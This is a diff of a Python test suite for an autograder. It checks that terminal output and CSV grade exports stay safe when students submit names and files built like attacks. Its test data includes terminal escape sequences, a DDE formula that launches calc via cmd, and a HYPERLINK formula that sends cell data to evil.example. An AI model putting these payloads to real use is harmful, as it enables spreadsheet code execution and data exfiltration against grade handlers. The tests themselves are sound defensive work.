@@ -3,6 +3,7 @@ opens. A class whose students named their folders as an attacker would (terminal
 is graded through the CLI beside an innocent student, then reported and exported to every target: no
 terminal control character reaches stdout or stderr, no CSV cell starts a formula, the files read back to
 what was written (a rerun keeps every grade), and the innocent keeps full marks."""
+
 import csv
 import subprocess
 import sys
@@ -10,12 +11,12 @@ import sys
 import nbformat
 import pytest
 
+from autograder.batch.submission import graded_cells
 from autograder.commands import cli
-from autograder.sinks import safe_text
+from autograder.commands.demo import solved
 from autograder.commands.grade import Summary
 from autograder.layout import REPO, SOURCE, notebooks
-from autograder.commands.demo import solved
-from autograder.batch.submission import graded_cells
+from autograder.sinks import safe_text
 
 ASSIGNMENT = "01_databases"
 NOTEBOOK = notebooks(ASSIGNMENT)[0]
@@ -32,8 +33,13 @@ CONTROL = ("\x1b", "\x07", "\x9b", "\u202e")
 
 
 def _run(*arguments, check=True):
-    result = subprocess.run([sys.executable, "-m", "autograder", *map(str, arguments)], cwd=REPO,
-                            capture_output=True, text=True, timeout=900)
+    result = subprocess.run(
+        [sys.executable, "-m", "autograder", *map(str, arguments)],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=900,
+    )
     if check:
         assert result.returncode == 0, result.stderr[-3000:]
     return result
@@ -46,8 +52,12 @@ def _control_lines(text: str) -> list[str]:
 def _unsafe_cells(path) -> list[str]:
     """Cells of a CSV file that a spreadsheet would run as a formula."""
     with open(path, newline="", encoding="utf-8-sig") as file:
-        return [cell for row in csv.reader(file) for cell in row
-                if len(cell) > 1 and cell[0] in safe_text.FORMULA_START and not safe_text.NUMBER.fullmatch(cell)]
+        return [
+            cell
+            for row in csv.reader(file)
+            for cell in row
+            if len(cell) > 1 and cell[0] in safe_text.FORMULA_START and not safe_text.NUMBER.fullmatch(cell)
+        ]
 
 
 def _roster_files(root):
@@ -55,12 +65,16 @@ def _roster_files(root):
     canvas.write_text(
         "Student,ID,SIS User ID,SIS Login ID,Section,Databases (1),Current Score\n"
         "    Points Possible,,,,,6.00,(read only)\n"
-        + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",{2000 + i},,,DP,,\n' for i, name in enumerate(ROSTER_NAMES)))
+        + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",{2000 + i},,,DP,,\n' for i, name in enumerate(ROSTER_NAMES))
+    )
     moodle = root / "moodle.csv"
     moodle.write_text(
         "First name,Last name,ID number,Email address,Assignment: 01_databases (Real)\n"
-        + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",x,{3000 + i},m{i}@example.edu,-\n'
-                  for i, name in enumerate(ROSTER_NAMES)))
+        + "".join(
+            f'"{name.replace(chr(34), chr(34) * 2)}",x,{3000 + i},m{i}@example.edu,-\n'
+            for i, name in enumerate(ROSTER_NAMES)
+        )
+    )
     return canvas, moodle
 
 
@@ -71,8 +85,10 @@ def hostile_class(tmp_path_factory):
     for student in [INNOCENT, *HOSTILE]:
         (submissions / student / ASSIGNMENT).mkdir(parents=True)
     nbformat.write(solved(ASSIGNMENT, NOTEBOOK), submissions / INNOCENT / ASSIGNMENT / NOTEBOOK)
-    nbformat.write(solved(ASSIGNMENT, NOTEBOOK, replace={"threshold_query": RAISES}),
-                   submissions / TERMINAL / ASSIGNMENT / NOTEBOOK)
+    nbformat.write(
+        solved(ASSIGNMENT, NOTEBOOK, replace={"threshold_query": RAISES}),
+        submissions / TERMINAL / ASSIGNMENT / NOTEBOOK,
+    )
     for student in FORMULAS:  # not notebooks: graded without a kernel, as malformed
         (submissions / student / ASSIGNMENT / NOTEBOOK).write_text('{"cells": [ \x1b]0;pwned\x07')
     (submissions / FORMULAS[0] / ASSIGNMENT / f"{TERMINAL}=1.txt").write_text("an extra file: an intake note")
@@ -86,8 +102,9 @@ def hostile_class(tmp_path_factory):
 def test_innocent_keeps_full_marks(hostile_class):
     _, out, _, _ = hostile_class
     rows = [r for r in safe_text.read_rows(out / "grades.csv") if r["student"] == INNOCENT]
-    auto = {c.name: c.max_score for c in graded_cells(nbformat.read(SOURCE / ASSIGNMENT / NOTEBOOK, 4))
-            if c.kind == "auto"}
+    auto = {
+        c.name: c.max_score for c in graded_cells(nbformat.read(SOURCE / ASSIGNMENT / NOTEBOOK, 4)) if c.kind == "auto"
+    }
     assert {r["cell"]: float(r["score"]) for r in rows if r["kind"] == "auto"} == auto
     assert all(r["reason"] == "" for r in rows if r["kind"] == "auto")
 
@@ -140,7 +157,7 @@ def test_export_is_safe(hostile_class, target):
     with open(dest, newline="", encoding="utf-8-sig") as file:
         cells = {cell for row in csv.reader(file) for cell in row}
     if target != "moodle":  # the names (students.csv's or the roster's) are there, as text
-        assert {"'-2+3", "'@SUM(1)", "'=HYPERLINK(\"evil.example?\"&A1,\"click\")"} <= cells
+        assert {"'-2+3", "'@SUM(1)", '\'=HYPERLINK("evil.example?"&A1,"click")'} <= cells
         assert "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred" in cells
     if roster:
         assert "'+cmd|' /C calc'!A0" in cells
@@ -149,14 +166,41 @@ def test_export_is_safe(hostile_class, target):
 def test_report_escapes_what_intake_let_through(tmp_path):
     """The report's own escaping, whatever intake did: an OUT whose ids and reasons hold control sequences."""
     with open(tmp_path / "grades.csv", "w", newline="") as file:
-        writer = safe_text.DictWriter(file, fieldnames=["student", "assignment", "notebook", "cell", "kind", "score",
-                                                        "max_score", "reason", "sandbox", "seed"])
+        writer = safe_text.DictWriter(
+            file,
+            fieldnames=[
+                "student",
+                "assignment",
+                "notebook",
+                "cell",
+                "kind",
+                "score",
+                "max_score",
+                "reason",
+                "sandbox",
+                "seed",
+            ],
+        )
         writer.writeheader()
-        for student, score, reason in [(TERMINAL, "0", TERMINAL), (HYPERLINK, "", f"grading error: {TERMINAL}"),
-                                       (INNOCENT, "1", "")]:
-            writer.writerow(dict(student=student, assignment=ASSIGNMENT, notebook=f"{TERMINAL}.ipynb",
-                                 cell="test_create_db", kind="auto", score=score, max_score="1", reason=reason,
-                                 sandbox="on", seed="1"))
+        for student, score, reason in [
+            (TERMINAL, "0", TERMINAL),
+            (HYPERLINK, "", f"grading error: {TERMINAL}"),
+            (INNOCENT, "1", ""),
+        ]:
+            writer.writerow(
+                dict(
+                    student=student,
+                    assignment=ASSIGNMENT,
+                    notebook=f"{TERMINAL}.ipynb",
+                    cell="test_create_db",
+                    kind="auto",
+                    score=score,
+                    max_score="1",
+                    reason=reason,
+                    sandbox="on",
+                    seed="1",
+                )
+            )
     result = _run("report", tmp_path)
     assert "\\x1b]0;pwned\\x07" in result.stdout and HYPERLINK in result.stdout
     assert not _control_lines(result.stdout + result.stderr + (tmp_path / "report.txt").read_text())
@@ -164,8 +208,17 @@ def test_report_escapes_what_intake_let_through(tmp_path):
 
 def test_error_line_is_escaped(hostile_class):
     root, out, _, _ = hostile_class
-    result = _run("grade", root / "class", "--out", root / "other", "--assignment", ASSIGNMENT,
-                  "--student", TERMINAL + "x", check=False)
+    result = _run(
+        "grade",
+        root / "class",
+        "--out",
+        root / "other",
+        "--assignment",
+        ASSIGNMENT,
+        "--student",
+        TERMINAL + "x",
+        check=False,
+    )
     assert result.returncode == 1 and result.stderr.startswith("error: ")
     assert not _control_lines(result.stdout + result.stderr) and "Traceback" not in result.stderr
     result = _run("export", out, "--to", "canvas", "--roster", root / TERMINAL, "--out", root / "x.csv", check=False)
@@ -186,6 +239,7 @@ def test_grading_errors_summary_is_escaped(tmp_path, monkeypatch, capsys):
 
 def test_a_traceback_is_escaped(tmp_path, monkeypatch, capsys):
     """A fault of the grader still prints its traceback, but no student text in it raw."""
+
     def fails(*args, **kwargs):
         raise RuntimeError(f"while writing {TERMINAL}")
 
@@ -196,8 +250,23 @@ def test_a_traceback_is_escaped(tmp_path, monkeypatch, capsys):
     assert not _control_lines(err)
 
 
-HOSTILE_CELLS = [*HOSTILE, "'t Hooft", "''quoted", "\ttab", "\rcr", "\uff1dSUM(1)", "-", "'", "", "plain",
-                 "'\\x1b", "\\x1b", "=\x07", "caf\xe9\x9b\udcff", "C:\\Users\\n"]
+HOSTILE_CELLS = [
+    *HOSTILE,
+    "'t Hooft",
+    "''quoted",
+    "\ttab",
+    "\rcr",
+    "\uff1dSUM(1)",
+    "-",
+    "'",
+    "",
+    "plain",
+    "'\\x1b",
+    "\\x1b",
+    "=\x07",
+    "caf\xe9\x9b\udcff",
+    "C:\\Users\\n",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE_CELLS, ids=repr)
@@ -218,8 +287,9 @@ def test_numbers_stay_numbers(number):
     assert safe_text.escape_cell(number) == safe_text.formula_safe(number) == number
 
 
-@pytest.mark.parametrize("text", [TERMINAL, "a\u202eb", "zero\u200bwidth", "line\u2028sep", "c1\x9b2J", "nl\nx",
-                                  "bad\udcffbyte"], ids=repr)
+@pytest.mark.parametrize(
+    "text", [TERMINAL, "a\u202eb", "zero\u200bwidth", "line\u2028sep", "c1\x9b2J", "nl\nx", "bad\udcffbyte"], ids=repr
+)
 def test_for_terminal_shows_no_control_character(text):
     shown = safe_text.for_terminal(text)
     assert shown.isprintable()
